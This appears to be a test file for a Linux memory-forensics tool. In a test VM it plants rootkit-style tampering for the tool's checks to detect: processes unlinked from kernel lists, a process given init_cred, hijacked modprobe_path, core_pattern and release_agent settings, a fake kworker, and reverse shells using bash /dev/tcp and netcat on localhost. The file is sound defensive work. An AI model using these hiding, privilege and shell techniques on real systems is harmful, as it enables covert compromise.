import assert from "node:assert/strict";
import { test } from "node:test";
import type { GuestVirtual } from "../../src/base/address.ts";
import { checks } from "../../src/checks/registry.ts";
import { sweep } from "../../src/checks/sweep.ts";
import type { Sweep } from "../../src/checks/sweep.ts";
import { Modules } from "../../src/linux/module.ts";
import { Tasks } from "../../src/linux/task.ts";
import { attach } from "../../src/vm/guest.ts";
import type { Guest as Attached } from "../../src/vm/guest.ts";
import { assertClean, assertFound } from "./harness/check-story.ts";
import type { Planted } from "./harness/check-story.ts";
import { kernel as debianKernel } from "./harness/debian-kernel.ts";
import { bootTiny } from "./harness/guest.ts";
import type { Guest } from "./harness/guest.ts";
import { inOrder } from "./harness/process-plant.ts";
import { RamEditor } from "./harness/ram-editor.ts";

const IDS = new Set([
  "hidden-process",
  "hidden-module",
  "hidden-socket",
  "shared-credentials",
  "helper-programs",
  "vanished-program",
  "kernel-thread-impostor",
  "shell-on-socket",
]);
const guests = [
  { release: "bookworm", flavour: "cloud", cpu: "max,la57=off" },
  { release: "trixie", flavour: "cloud", cpu: "max" },
] as const;

type Scene = { readonly guest: Guest; readonly attached: Attached; readonly editor: RamEditor };
type Plant = Planted & {
  readonly title: string;
  /** Does it, and returns what takes it back. */
  readonly plant: (scene: Scene) => Promise<() => unknown>;
};

/** Waits in the guest until a socket of that port is in a state of /proc/net/tcp: 01 connected, 0A listening. */
function untilTcp(port: number, state: string): string {
  const hex = port.toString(16).toUpperCase();
  return `until cat /proc/net/tcp* | grep -q ':${hex} .* ${state} '; do sleep 0.1; done`;
}

const END_NETCAT =
  "kill $(pgrep -x busybox); while pgrep -x busybox > /dev/null; do sleep 0.1; done";

const plants: readonly Plant[] = [
  {
    title: "a process unlinked from the task list",
    check: "hidden-process",
    says: /not in the task list/,
    plant: async ({ guest, attached, editor }) => {
      const { task, end } = await sleeper(guest, attached);
      const link = task + attached.kernel.offset("task_struct", "tasks");
      return inOrder(editor.unlink(link), end);
    },
  },
  {
    title: "a process taken out of the table of pids",
    check: "hidden-process",
    says: /not in the pid table/,
    plant: async ({ guest, attached, editor }) => {
      const { task, end } = await sleeper(guest, attached);
      const { kernel } = attached;
      const pid = kernel.reader("task_struct", "thread_pid")(task);
      // What detach_pid leaves behind for PIDTYPE_TGID: an empty list of tasks.
      return inOrder(editor.writePointer(pid + kernel.offset("pid", "tasks") + 8, 0), end);
    },
  },
  {
    title: "a module unlinked from the module list",
    check: "hidden-module",
    says: /dummy.*not in the module list/,
    plant: async ({ guest, attached, editor }) => {
      await guest.run("modprobe dummy");
      const { kernel } = attached;
      kernel.refresh();
      const modules = new Modules(kernel);
      const module = [...modules.list(kernel.budget())].find(
        (each) => modules.name(each) === "dummy",
      );
      assert.ok(module !== undefined);
      return editor.unlink(module + kernel.offset("module", "list"));
    },
  },
  {
    title: "a process with the kernel's own credentials",
    check: "shared-credentials",
    says: /carries the kernel's own credentials/,
    plant: async ({ guest, attached, editor }) => {
      const { task, end } = await sleeper(guest, attached);
      const { kernel } = attached;
      const init = kernel.requireSymbol("init_cred");
      const undo = ["real_cred", "cred"].map((name) =>
        editor.writePointer(task + kernel.offset("task_struct", name), init),
      );
      return inOrder(...undo, end);
    },
  },
  {
    title: "modprobe_path in /tmp",
    check: "helper-programs",
    says: /modprobe_path.*\/tmp\/x/,
    plant: async ({ attached, editor }) =>
      editor.write(attached.kernel.requireSymbol("modprobe_path"), Buffer.from("/tmp/x\0")),
  },
  {
    title: "modprobe_path in /tmp, said in a roundabout way",
    check: "helper-programs",
    says: /modprobe_path.*\/\/tmp\/x/,
    plant: async ({ attached, editor }) =>
      editor.write(attached.kernel.requireSymbol("modprobe_path"), Buffer.from("//tmp/x\0")),
  },
  coreDumps("to a program in /dev/shm", "|/dev/shm/c %p", /core_pattern.*\/dev\/shm\/c/),
  coreDumps("to a shell with a script in /dev/shm", "|/bin/sh /dev/shm/c %p", /\/dev\/shm\/c/),
  coreDumps("to commands of a shell", "|/bin/sh -c id", /core_pattern.*\/bin\/sh -c id/),
  {
    title: "a cgroup hierarchy whose release agent lies in /tmp",
    check: "helper-programs",
    says: /release_agent.*\/tmp\/agent/,
    plant: async ({ guest }) => {
      await guest.run("mkdir -p /tmp/cg && mount -t cgroup -o none,name=kept none /tmp/cg");
      await guest.run("echo /tmp/agent > /tmp/cg/release_agent");
      return () => guest.run("echo > /tmp/cg/release_agent; umount /tmp/cg");
    },
  },
  {
    title: "a program format whose interpreter lies in /tmp",
    check: "helper-programs",
    says: /format \\"odd\\".*\/tmp\/interpreter/,
    plant: async ({ guest }) => {
      await guest.run("modprobe binfmt_misc; cp /usr/bin/busybox /tmp/interpreter");
      await guest.run("mount -t binfmt_misc none /proc/sys/fs/binfmt_misc");
      const register = "/proc/sys/fs/binfmt_misc/register";
      await guest.run(`echo ':ordinary:E::ordinary::/usr/bin/busybox:' > ${register}`);
      await guest.run(`echo ':odd:E::odd::/tmp/interpreter:' > ${register}`);
      return () => guest.run("echo -1 > /proc/sys/fs/binfmt_misc/odd");
    },
  },
  {
    title: "a program that was deleted in /tmp",
    check: "vanished-program",
    says: /deleted.*\/tmp\/gone/,
    plant: async ({ guest }) => {
      await guest.run("cp $(readlink -f $(command -v sleep)) /tmp/gone");
      const end = await inBackground(guest, "exec -a sleep /tmp/gone 1000");
      await guest.run("rm /tmp/gone");
      return end;
    },
  },
  {
    title: "a process that calls itself a kernel worker",
    check: "kernel-thread-impostor",
    says: /calls itself .*kworker/,
    plant: async ({ guest }) => {
      await guest.run("mkfifo /tmp/wait");
      // busybox's programs go by argv[0]; bash does not.
      const end = await inBackground(guest, "exec -a '[kworker/0:3]' bash -c 'read x </tmp/wait'");
      return inOrder(end, () => guest.run("rm /tmp/wait"));
    },
  },
  {
    title: "a shell whose input and output are a connection",
    check: "shell-on-socket",
    says: /shell on a network connection to 127\.0\.0\.1:4444/,
    plant: async ({ guest }) => {
      // A pipe that nobody writes to: at the end of its input nc would close the connection.
      await guest.run(`mkfifo /tmp/quiet
        (busybox nc -l -p 4444 <>/tmp/quiet >/dev/null 2>&1 &)
        ${untilTcp(4444, "0A")}
        (bash -c 'exec bash -c "read line" 0<>/dev/tcp/127.0.0.1/4444 1>&0 2>&0' &)
        ${untilTcp(4444, "01")}
        until pgrep -fx 'bash -c read line'; do sleep 0.1; done`);
      return () => guest.run(`${END_NETCAT}; rm /tmp/quiet`);
    },
  },
  {
    title: "a shell between pipes that netcat hands on",
    check: "shell-on-socket",
    says: /shell on a network connection to 127\.0\.0\.1:4445, led by process \d+ \(busybox\)/,
    plant: async ({ guest }) => {
      await guest.run(`mkfifo /tmp/quiet /tmp/loop
        (busybox nc -l -p 4445 <>/tmp/quiet >/dev/null 2>&1 &)
        ${untilTcp(4445, "0A")}
        (cat /tmp/loop | bash -c "read line; exit" 2>&1 | busybox nc 127.0.0.1 4445 >/tmp/loop 2>/dev/null &)
        ${untilTcp(4445, "01")}`);
      return () => guest.run(`${END_NETCAT}; rm /tmp/quiet /tmp/loop`);
    },
  },
];

/** What distributions set, and what administrators do. */
const ORDINARY_DUMPS = [
  "core",
  "/tmp/core.%p",
  "|/bin/false",
  "|/usr/lib/systemd/systemd-coredump %P %u %g %s %t 9223372036854775808 %h",
  "|/usr/share/apport/apport -p%p -s%s -c%c -d%d -P%P -u%u -g%g -F%F -- %E",
  "|/usr/bin/python3 /usr/local/lib/dump.py %p",
  "|/usr/bin/tee /tmp/core.%p",
];

function coreDumps(where: string, pattern: string, says: RegExp): Plant {
  return {
    title: `core dumps sent ${where}`,
    check: "helper-programs",
    says,
    plant: async ({ guest }) => {
      const before = (await guest.run("cat /proc/sys/kernel/core_pattern")).trim();
      await setCorePattern(guest, pattern);
      return () => setCorePattern(guest, before);
    },
  };
}

function setCorePattern(guest: Guest, pattern: string): Promise<string> {
  return guest.run(`echo '${pattern}' > /proc/sys/kernel/core_pattern`);
}

for (const { release, flavour, cpu } of guests) {
  test(`hidden and disguised processes are found: ${release}/${flavour}`, async (t) => {
    const kernel = await debianKernel({ release, flavour });
    await using guest = await bootTiny({
      kernel,
      cpu,
      ram: "file",
      availableModules: ["dummy", "binfmt_misc"],
    });
    await guest.run("ip link set lo up; modprobe dummy; modprobe -r dummy");
    using attached = await attach(`pid:${guest.pid}`);
    const chosen = checks.filter(({ id }) => IDS.has(id));
    const look = (): Sweep => sweep(attached.kernel, chosen);
    using editor = new RamEditor(guest, attached.kernel);
    await guest.run("modprobe dummy");
    await t.test("nothing is found before", () => assertClean(look()));
    await guest.run("modprobe -r dummy");
    await t.test("where core dumps ordinarily go is no finding", async () => {
      const before = (await guest.run("cat /proc/sys/kernel/core_pattern")).trim();
      for (const pattern of ORDINARY_DUMPS) {
        await setCorePattern(guest, pattern);
        assert.deepEqual(look().findings, [], pattern);
      }
      await setCorePattern(guest, before);
    });
    for (const plant of plants) {
      await t.test(plant.title, async (inner) => {
        const undo = await plant.plant({ guest, attached, editor });
        try {
          assertFound(inner, plant, look);
        } finally {
          await undo();
        }
        assert.deepEqual(look().findings, []);
      });
    }
  });
}

/** A process that sleeps; `end` kills it. */
async function sleeper(
  guest: Guest,
  { kernel }: Attached,
): Promise<{ task: GuestVirtual; end: () => Promise<unknown> }> {
  const end = await inBackground(guest, "exec sleep 12345");
  const pid = Number(await guest.run("pgrep -f '^sleep 12345'"));
  kernel.refresh();
  const tasks = new Tasks(kernel);
  const task = tasks.processes(kernel.budget()).find((each) => tasks.pid(each) === pid);
  assert.ok(task !== undefined);
  return { task, end };
}

/** Runs a shell command in the background; the function returned kills it. */
async function inBackground(guest: Guest, command: string): Promise<() => Promise<unknown>> {
  const script = `${command}\n`;
  const file = `/tmp/background-${Math.abs(hash(command))}`;
  await guest.put(file, script);
  const pid = await guest.run(`bash ${file} >/dev/null 2>&1 </dev/null & echo $!`);
  await guest.run("sleep 0.5");
  return () =>
    guest.run(
      `kill -9 ${pid.trim()} 2>/dev/null; while kill -0 ${pid.trim()} 2>/dev/null; do sleep 0.1; done; rm -f ${file}`,
    );
}

function hash(text: string): number {
  return [...text].reduce((sum, letter) => (Math.imul(sum, 31) + letter.charCodeAt(0)) | 0, 7);
}
